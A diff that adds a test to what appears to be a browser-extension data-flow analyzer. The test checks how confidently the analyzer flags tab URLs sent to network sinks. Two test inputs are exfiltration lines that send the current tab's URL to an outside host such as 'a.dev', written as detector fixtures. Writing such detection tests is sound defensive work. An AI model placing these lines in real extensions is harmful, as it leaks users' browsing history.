@@ -153,3 +153,16 @@ describe('flows', () => {
     );
   });
 });
+
+describe('an address that is asked for as it is', () => {
+  const ask = (request: string): unknown => {
+    const source = `chrome.tabs.onUpdated.addListener((id, change, tab) => { ${request} })`;
+    return factsOf(source).flows.find(({ sink }) => sink.kind === 'network')?.confidence;
+  };
+
+  it('tells a stranger nothing, or little', () => {
+    assert.equal(ask('fetch(tab.url)'), 'low');
+    assert.equal(ask("fetch('https://a.dev/?u=' + tab.url)"), 'high');
+    assert.equal(ask('fetch(server, { body: tab.url })'), 'high');
+  });
+});
